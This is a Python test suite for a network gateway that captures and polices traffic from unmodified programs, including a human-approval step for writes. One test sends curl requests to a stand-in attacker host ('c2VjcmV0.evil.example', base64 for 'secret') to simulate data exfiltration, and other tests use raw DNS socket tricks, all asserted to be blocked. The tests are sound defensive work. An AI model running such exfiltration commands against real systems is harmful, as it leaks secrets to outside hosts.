#!/usr/bin/env python3
"""Unmodified programs that follow no proxy variable, through transparent capture: inside `countersign run
--transparent`, and on a network behind a gateway with conf/nftables/gateway.nft. (The rules by themselves:
test_capture_rules.py; the walls of the sandbox: test_transparent.py.)"""
import os
import pwd
import secrets
import shutil
import socket
import sys
import threading

import room  # noqa: F401
import harness
from gateway import Gateway, program, simple_policy
from harness import PATIENCE, Skip, main, test

sys.path.insert(0, str(harness.HERE / "lab"))
import netns  # noqa: E402

WHY_NOT = netns.own()
DENIED = "Payouts are for people, ask in #finance."
NODE = """
const [method, url, body] = process.argv.slice(2);
const answer = await fetch(url, { method, body });
console.log(answer.status, await answer.text());
"""


def policy(up):
    return simple_policy(up, extra=f"""  - id: payouts
    match: {{ host: {up.name}, port: {up.port}, path: "/payouts/**" }}
    decide: deny
    say: "{DENIED}"
""")


class Names:
    """The operator's name server: what is asked is written down and not answered."""

    def __init__(self, lab):
        self.asked = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()
        lab.at_end.append(self.sock.close)

    def listen(self):
        while True:
            try:
                self.asked.append(self.sock.recvfrom(2000)[0])
            except OSError:
                return


def need(*programs):
    netns.need(WHY_NOT)
    for name in programs:
        if not shutil.which(name):
            raise Skip(f"{name} is not installed")


def node(work):
    need("node")
    (work / "fetch.mjs").write_text(NODE)
    return lambda method, url, *body: ["node", "fetch.mjs", method, url, *body]


def java(work):
    need("java", "javac")
    shutil.copy(harness.HERE / "lab/HttpFetch.java", work)
    return lambda method, url, *body: ["java", "-XX:TieredStopAtLevel=1", "HttpFetch.java", method, url, *body]


def go(work):
    need("go")
    env = {"GOFLAGS": "-mod=mod", "GOPROXY": "off", "GOTOOLCHAIN": "local", "CGO_ENABLED": "0", "GOTELEMETRY": "off",
           "GOCACHE": work.parent / "go-cache", "GOPATH": work.parent / "go-path", "PATH": os.environ["PATH"]}
    go.lab.run(["go", "build", "-o", work / "fetch-go", "."], cwd=harness.HERE / "lab/go", env=env, rc=0)
    return lambda method, url, *body: ["./fetch-go", method, url, *body]


def wget(work):
    need("wget")
    return lambda method, url, *body: ["wget", "-q", "-S", "-O", "-", "--content-on-error", f"--method={method}",
                                       *(f"--body-data={text}" for text in body), url]


def curl(work):
    need("curl")
    return lambda method, url, *body: ["curl", "-sS", "-i", "--noproxy", "*", "-X", method,
                                       *(word for text in body for word in ("-d", text)), url]


class Inside:
    """Commands inside `countersign run --transparent`."""
    options = ["--transparent"]

    def __init__(self, lab):
        need("nft", "bwrap")
        self.lab, self.work = lab, lab.dir / "work"
        self.work.mkdir()
        self.up = lab.upstream()
        self.gw = Gateway(lab, policy(self.up), {"api": lab.canary(secrets.token_urlsafe(32)).encode()})

    def command(self, words):
        return [program(), "run", *self.options, "--setenv", "NO_COLOR=1", "--state-dir", self.gw.state,
                "--workspace", self.work, "--", *words]

    def run(self, words, **more):
        return self.lab.run(self.command(words), **more)

    def start(self, words):
        return self.lab.start(self.command(words))


class ByDefault(Inside):
    """Inside `countersign run` as it is: who follows the proxy variables does, and who does not is captured."""
    options = []


class Behind:
    """Commands in a network behind the gateway, which captures it."""

    def __init__(self, lab):
        need("nft", "nsenter")
        self.lab, self.work = lab, lab.dir / "work"
        self.work.mkdir()
        self.up, self.names = lab.upstream(), Names(lab)
        self.box = netns.Box(lab)
        netns.Rules(lab, "gateway")
        self.gw = Gateway(
            lab, policy(self.up), {"api": lab.canary(secrets.token_urlsafe(32)).encode()},
            listeners=(
                '{ name: vms, transparent: "10.99.0.1:15001", dns: "10.99.0.1:15053", identity: { sandbox: vms } }',
                '{ name: vms6, transparent: "[fd00:99::1]:15001", identity: { source: { "fd00:99::/64": vms } } }'),
            config=f'dns: {{ servers: ["127.0.0.1:{self.names.port}"] }}\n')
        state = self.gw.state
        bundle = str(state / "bundle.crt")
        self.env = {"SSL_CERT_FILE": bundle, "CURL_CA_BUNDLE": bundle, "NODE_EXTRA_CA_CERTS": str(state / "ca.crt"),
                    "JAVA_TOOL_OPTIONS": f"-Djavax.net.ssl.trustStore={state}/truststore.p12 "
                    "-Djavax.net.ssl.trustStoreType=PKCS12 -Djavax.net.ssl.trustStorePassword=changeit",
                    "NO_PROXY": "*", "no_proxy": "*"}  # changes nothing: nobody asked for a proxy
        (lab.home / ".wgetrc").write_text(f"ca_certificate = {bundle}\n")

    def run(self, words, **more):
        return self.box.run(words, env=self.env, cwd=self.work, **more)

    def start(self, words):
        return self.box.start(words, env=self.env, cwd=self.work)


class User:
    """Commands of one user of the gateway's own machine, captured by conf/nftables/user.nft."""

    def __init__(self, lab):
        need("nft", "setpriv")
        self.lab, self.work, who = lab, lab.dir / "work", pwd.getpwnam("nobody")
        self.work.mkdir()
        self.up = lab.upstream()
        netns.Box(lab)  # the way out there would be
        netns.ip("route", "add", "default", "via", "10.99.0.2")
        netns.Rules(lab, "user", agent=who.pw_uid)
        self.gw = Gateway(
            lab, policy(self.up), {"api": lab.canary(secrets.token_urlsafe(32)).encode()},
            listeners=('{ name: agent, transparent: "127.0.0.1:15001", dns: "127.0.0.1:15053", '
                       'identity: { sandbox: agent } }',))
        trust = lab.dir / "trust"  # what lies in the state directory is not for users
        trust.mkdir()
        self.env = {}
        for name, file in (("SSL_CERT_FILE", "bundle.crt"), ("NODE_EXTRA_CA_CERTS", "ca.crt")):
            shutil.copy(self.gw.state / file, trust)
            self.env[name] = str(trust / file)
        self.env["CURL_CA_BUNDLE"] = self.env["SSL_CERT_FILE"]
        self.as_user = ["setpriv", "--reuid", str(who.pw_uid), "--regid", str(who.pw_gid), "--clear-groups"]

    def run(self, words, **more):
        return self.lab.run(self.as_user + words, env=self.env, cwd=self.work, **more)

    def start(self, words):
        return self.lab.start(self.as_user + words, env=self.env, cwd=self.work)


def goes_through(lab, place, client):
    """A read passes, a denial shows the operator's words, a write waits for a person."""
    client.lab = lab
    where = place(lab)
    fetch, url = client(where.work), f"https://{where.up.name}:{where.up.port}"
    read = where.run(fetch("GET", f"{url}/ok"), rc=0)
    assert b"200" in read.both and where.up.effects() == {"GET /ok": 1}, read.text()
    denied = where.run(fetch("GET", f"{url}/payouts/7"))
    assert DENIED.encode() in denied.both and b"403" in denied.both, denied.text()
    write = where.start(fetch("POST", f"{url}/ok", "amount=1"))
    ticket = where.gw.pending()
    assert where.up.effects() == {"GET /ok": 1}, "it was sent before anybody agreed"
    where.gw.approve(ticket["id"])
    assert write.wait(60) == 0 and b"200" in write.seen, write.seen
    assert where.up.effects() == {"GET /ok": 1, "POST /ok": 1}
    assert [r["fields"] for r in where.up.requests() if "Bearer" not in str(r["fields"])] == []
    return where


def cases():
    inside, behind = (Inside, "inside_a_transparent_run"), (Behind, "behind_a_capturing_gateway")
    user, default = (User, "of_a_captured_user"), (ByDefault, "inside_a_run")
    for client in (node, java, go, wget, curl):
        for place, name in (inside, behind, *([user] if client in (node, curl) else []), *([default] if client in (node, java) else [])):
            def case(lab, client=client, place=place):
                goes_through(lab, place, client)
            case.__name__ = f"{client.__name__}_{name}"
            test("C33 netns")(case)


cases()


@test("C32 netns", "C33 netns")
def what_a_captured_network_asks_and_sends_ends_at_the_gateway(lab):
    where = Behind(lab)
    url = f"https://{where.up.name}:{where.up.port}"
    exfil = where.run(["curl", "-sS", "-i", f"https://c2VjcmV0.evil.example:{where.up.port}/x"], rc=0)
    assert b"403" in exfil.out and where.names.asked == [], (exfil.text(), where.names.asked)
    plain = where.run(["curl", "-sS", "-i", "http://c2VjcmV0.evil.example/x"], rc=0)
    assert b"403" in plain.out and where.names.asked == [], plain.text()
    # The name is what counts, wherever the connection was going; and a literal address has none.
    assert where.run(["curl", "-sS", "--resolve", f"{where.up.name}:{where.up.port}:192.0.2.1", f"{url}/ok"], rc=0)
    assert where.run(["curl", "-sS", "--resolve", f"{where.up.name}:{where.up.port}:[2001:db8::1]", f"{url}/ok"], rc=0)
    assert where.up.effects() == {"GET /ok": 2}
    literal = where.run(["curl", "-ksS", f"https://192.0.2.1:{where.up.port}/ok"])
    assert literal.rc != 0 or b"403" in literal.out, literal.text()
    quic = where.run(["python3", "-c", "import socket as s; c = s.socket(s.AF_INET, s.SOCK_DGRAM); c.settimeout(300);"
                      "c.connect(('192.0.2.1', 443)); c.send(b'x'); c.recv(1)"], rc=1)
    assert b"ConnectionRefusedError" in quic.err, quic.text()
    stream = where.run(["python3", "-c", "import socket as s; q = b'\\0\\7\\1\\0\\0\\1' + bytes(6) + b'\\1x\\0\\0\\1\\0\\1';"
                        "c = s.create_connection(('9.9.9.9', 53)); c.sendall(bytes([0, len(q)]) + q);"
                        "print(s.inet_ntoa(c.recv(200)[-4:]))"], rc=0)
    assert stream.out == b"198.18.0.1\n", stream.text()
    seen = where.run(["sh", "-c", f"getent ahostsv4 x.example; getent ahostsv6 x.example; curl -sS {url}/ok"])
    assert b"198.18.0.1" in seen.out and where.names.asked == []


@test("C21 netns")
def the_gateways_own_doors_stay_shut(lab):
    where = Behind(lab)
    ports = [where.gw.proxy.rsplit(":")[-1], where.gw.page.split("/")[2].rsplit(":")[-1], "15001", "15053"]
    for address in ("10.99.0.1", "[fd00:99::1]"):
        for port in ports:
            done = where.run(["curl", "-sS", "--max-time", str(PATIENCE), f"http://{address}:{port}/"])
            assert done.rc == 7, (address, port, done.text())  # could not connect
    # Not redirected, from the gateway's own side: it was on its way to the listener itself.
    for host in (f"{where.up.name}:{where.up.port}", "10.99.0.1:15001"):
        done = lab.run(["curl", "-sS", "-i", "--max-time", str(PATIENCE), "-H", f"Host: {host}", "http://10.99.0.1:15001/ok"])
        assert b" 200" not in done.out, done.text()
    assert where.up.effects() == {}


if __name__ == "__main__":
    main()
